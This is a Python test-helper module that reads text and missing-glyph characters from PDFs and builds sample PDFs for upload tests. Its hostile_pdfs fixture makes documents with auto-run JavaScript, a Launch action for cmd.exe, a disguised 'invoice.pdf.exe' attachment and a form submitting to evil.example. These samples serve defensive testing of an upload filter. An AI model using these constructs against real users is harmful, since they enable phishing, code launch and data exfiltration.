"""Reading PDFs back: their text (poppler's ``pdftotext``) and the characters drawn with no
glyph; and building small PDFs with pikepdf (a page of text, and the same carrying active
content) for the upload tests."""

from __future__ import annotations

import io
import re
import subprocess

import pikepdf
from fontTools.cffLib import CFFFontSet
from fontTools.ttLib import TTFont

_BFCHAR = re.compile(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>")


def pdf_text(pdf: bytes) -> str:
    command = ["pdftotext", "-enc", "UTF-8", "-", "-"]
    return subprocess.run(command, input=pdf, capture_output=True, check=True).stdout.decode()


def _glyph_count(program: pikepdf.Object) -> int:
    data = program.read_bytes()
    if program.get("/Subtype") == pikepdf.Name("/CIDFontType0C"):
        cff = CFFFontSet()
        cff.decompile(io.BytesIO(data), None)
        return len(cff[cff.fontNames[0]].charset)
    with TTFont(io.BytesIO(data), lazy=True) as font:
        return int(font["maxp"].numGlyphs)


def _fonts(pdf: pikepdf.Pdf) -> list[pikepdf.Object]:
    found: dict[tuple[int, int], pikepdf.Object] = {}
    for page in pdf.pages:
        resources = page.obj.get("/Resources")
        fonts = resources.get("/Font") if resources is not None else None
        for font in (fonts or {}).values():
            found[font.objgen] = font
    return list(found.values())


def characters_without_glyph(pdf: bytes) -> set[str]:
    """What a PDF from WeasyPrint prints as an empty box: text its ToUnicode maps from glyph
    0 (.notdef) or from a glyph number past the embedded font's last, which is how
    WeasyPrint numbers the characters no font had."""
    missing: set[str] = set()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        for font in _fonts(document):
            descriptor = font.DescendantFonts[0].FontDescriptor
            program = descriptor.get("/FontFile2") or descriptor.get("/FontFile3")
            assert program is not None, f"{font.BaseFont} is not embedded"
            glyphs = _glyph_count(program)
            for gid, text in _BFCHAR.findall(font.ToUnicode.read_bytes()):
                char = bytes.fromhex(text.decode()).decode("utf-16-be")
                glyph = int(gid, 16)
                if (glyph == 0 and char != "\uffff") or glyph >= glyphs:
                    missing.add(char)
    return missing


# Building PDFs ---------------------------------------------------------------------------


def save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    """``pdf``'s bytes (pikepdf's save options, e.g. ``encryption``)."""
    buffer = io.BytesIO()
    pdf.save(buffer, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def text_pdf(text: str = "Transfer of USD 12,500.00 to Wah Nobel", pages: int = 1) -> pikepdf.Pdf:
    """A PDF of ``pages`` pages, each printing ``text`` (ASCII) in Helvetica."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                           BaseFont=pikepdf.Name.Helvetica)
    )  # fmt: skip
    for _ in range(pages):
        pdf.add_blank_page(page_size=(400, 200))
        page = pdf.pages[-1]
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET".encode())
    return pdf


def script(pdf: pikepdf.Pdf, code: str = "app.alert('pwned')") -> pikepdf.Object:
    return pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript,
                           JS=pikepdf.String(code))
    )  # fmt: skip


def link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary, top: int = 50) -> pikepdf.Object:
    return pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                           Rect=[20, top - 20, 200, top], Border=[0, 0, 0], A=action)
    )  # fmt: skip


def hostile_pdfs() -> dict[str, bytes]:
    """The same page of text carrying each kind of active content."""
    made: dict[str, bytes] = {}

    pdf = text_pdf()
    pdf.Root.OpenAction = script(pdf)
    made["open_action_javascript"] = save(pdf)

    pdf = text_pdf()
    pdf.Root.AA = pikepdf.Dictionary(WC=script(pdf))
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=script(pdf), C=script(pdf))
    made["additional_actions"] = save(pdf)

    pdf = text_pdf()
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"),
                                Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe")))  # fmt: skip
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([link(pdf, launch)]))
    made["annotation_launch"] = save(pdf)

    pdf = text_pdf()
    pdf.attachments["invoice.pdf.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 payload")
    made["embedded_files"] = save(pdf)

    pdf = text_pdf()
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), script(pdf)]))
    )
    made["names_javascript"] = save(pdf)

    pdf = text_pdf()
    widget = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget,
                           FT=pikepdf.Name.Btn, T=pikepdf.String("send"), Rect=[20, 20, 80, 40],
                           A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm,
                                                F=pikepdf.String("https://evil.example/")))
    )  # fmt: skip
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([widget]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]),
                                           XFA=pdf.make_stream(b"<xdp:xdp/>"))  # fmt: skip
    made["form_submit_and_xfa"] = save(pdf)

    # Compressed into an object stream, the script's name is not in the file's bytes.
    pdf = text_pdf()
    pdf.Root.OpenAction = script(pdf)
    made["in_object_stream"] = save(
        pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True
    )
    return made
